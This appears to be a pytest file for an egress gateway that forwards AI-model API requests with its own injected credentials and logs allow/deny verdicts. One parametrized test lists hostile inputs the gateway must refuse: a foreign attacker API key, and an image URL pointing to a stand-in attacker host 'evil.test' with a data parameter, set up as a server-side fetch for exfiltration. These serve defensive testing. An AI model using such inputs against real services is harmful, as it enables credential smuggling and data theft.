"""A client that believes it speaks to the vendor: its request becomes a call of the run at the broker (E1, C1)."""

from __future__ import annotations

import json
import ssl
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

import lockgate as lg
from egress_client import drain, reason, rows_until_now, tunnel
from lockgate.egress import launch
from lockgate.egress.bridge import Bridge
from lockgate.egress.client import Control
from model_behind import run_and_gateway
from model_vendor import ANTHROPIC_KEY, OPENAI_KEY, Vendor

QUESTION = {"model": "m", "max_tokens": 9, "messages": [{"role": "user", "content": "capital?"}]}


class Scene:
    """A gate, a gateway and a run that both know."""

    def __init__(self, home: Path, vendor: Vendor, run: lg.sync.Run, gateway: launch.Gateway) -> None:
        self.home, self.vendor, self.run, self.gateway = home, vendor, run, gateway

    def open(self, *, broker: bool = True) -> Any:
        bridge = Bridge(self.run.try_call) if broker else None
        control = Control(self.gateway.control, broker=None if bridge is None else bridge.theirs)
        opened = control.open(user="u1", agent="atlas", run="model-run")
        return control, bridge, opened

    def ask(self, opened: Any, raw: bytes, host: str = "api.anthropic.com") -> bytes:
        context = ssl.create_default_context(cadata=opened.ca_pem)
        sock = tunnel(opened.data, opened.token, host)
        with context.wrap_socket(sock, server_hostname=host) as inside:
            inside.sendall(raw)
            return drain(inside)

    def rows(self) -> list[Any]:
        return rows_until_now(self.gateway.control, self.home / "egress.db")


@pytest.fixture(scope="module")
def scene(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Scene]:
    home = tmp_path_factory.mktemp("egress-model")
    vendor = Vendor()
    with run_and_gateway(home, vendor, "egress_model_operations") as (run, gateway):
        yield Scene(home, vendor, run, gateway)
    vendor.close()


def post(path: str, body: Any, *fields: str, host: str = "api.anthropic.com") -> bytes:
    data = body if isinstance(body, bytes) else json.dumps(body).encode()
    lines = [f"POST {path} HTTP/1.1", f"Host: {host}", f"Content-Length: {len(data)}", "Connection: close", *fields]
    return "\r\n".join([*lines, "", ""]).encode() + data


def test_a_request_becomes_a_call_with_our_credential(scene: Scene) -> None:
    """E1, C1: the client sends none, the vendor sees ours, and the answer comes back as the vendor wrote it."""
    control, bridge, opened = scene.open()
    for path, host, key in (
        ("/v1/messages", "api.anthropic.com", ANTHROPIC_KEY),
        ("/v1/chat/completions", "api.openai.com", OPENAI_KEY),
    ):
        before = len(scene.vendor.asked)
        answer = scene.ask(opened, post(path, QUESTION, host=host), host)
        head, _, body = answer.partition(b"\r\n\r\n")
        assert head.startswith(b"HTTP/1.1 200 "), answer
        assert "Paris" in json.dumps(json.loads(body))
        asked = scene.vendor.asked[before]
        assert key in {asked.fields.get("x-api-key"), asked.fields.get("authorization", "").removeprefix("Bearer ")}
        assert asked.json["messages"] == QUESTION["messages"]
        assert key.encode() not in answer
    assert [row.verdict for row in scene.rows()[-2:]] == ["allow", "allow"]
    bridge.close()
    control.close()


def test_streams_come_as_they_are_made(scene: Scene) -> None:
    """E1: server-sent events, as the vendor sent them."""
    control, bridge, opened = scene.open()
    answer = scene.ask(opened, post("/v1/messages", {**QUESTION, "stream": True}))
    head, _, body = answer.partition(b"\r\n\r\n")
    assert b"text/event-stream" in head
    assert b"transfer-encoding: chunked" in head
    assert body.endswith(b"0\r\n\r\n")
    for word in (b"message_start", b"Paris", b"message_stop"):
        assert word in body
    bridge.close()
    control.close()


@pytest.mark.parametrize(
    ("raw", "expected"),
    [
        (post("/v1/files", b"{}", "x-api-key: sk-synthetic-attacker"), "path_not_allowed"),
        (post("/v1/messages/batches", QUESTION), "path_not_allowed"),
        (post("/v1/messages", QUESTION, "x-api-key: sk-synthetic-attacker"), "foreign_credential"),
        (post("/v1/messages", QUESTION, "Authorization: Bearer sk-synthetic-attacker"), "foreign_credential"),
        (post("/v1/messages", {**QUESTION, "tools": [{"type": "web_search_20250305"}]}), "server_side_tool"),
        (
            post("/v1/messages", {**QUESTION, "messages": [{"role": "user", "content": [
                {"type": "image", "source": {"type": "url", "url": "https://evil.test/?d=S"}}]}]}),
            "server_side_fetch",
        ),
        (post("/v1/messages", QUESTION, host="evil.test"), "host_mismatch"),
    ],
)  # fmt: skip
def test_what_the_vendor_would_do_outside_is_refused_before_the_broker(scene: Scene, raw: bytes, expected: str) -> None:
    """E1, E4: the gateway's rule is the broker's, and a refusal reaches neither broker nor vendor."""
    control, bridge, opened = scene.open()
    before = len(scene.vendor.asked)
    assert reason(scene.ask(opened, raw)) == expected
    assert len(scene.vendor.asked) == before
    row = scene.rows()[-1]
    assert (row.verdict, row.reason) == ("deny", expected)
    assert "attacker" not in repr(row)
    assert b"attacker".hex() not in repr(row)
    bridge.close()
    control.close()


def test_without_a_link_there_is_nobody_who_may_call(scene: Scene) -> None:
    """E1: no identity, no call; and the link is no way to other operations."""
    control, _, opened = scene.open(broker=False)
    assert reason(scene.ask(opened, post("/v1/messages", QUESTION))) == "caller_unauthenticated"
    control.close()
    control, bridge, opened = scene.open()
    bridge.close()  # the agent is gone
    assert reason(scene.ask(opened, post("/v1/messages", QUESTION))) == "dial_failed"
    control.close()


def test_a_denial_of_the_broker_is_one_here(scene: Scene) -> None:
    """C3: what the run's scope does not hold is refused by the one authorize(), with a row in its log."""
    narrow = Bridge(scene.run.try_call, operations=("model_stream",))
    control = Control(scene.gateway.control, broker=narrow.theirs)
    opened = control.open(user="u1", agent="atlas", run="narrow")
    assert reason(scene.ask(opened, post("/v1/messages", QUESTION))) == "not_allowed"
    assert scene.rows()[-1].detail["broker"] == "not_available"
    narrow.close()
    control.close()
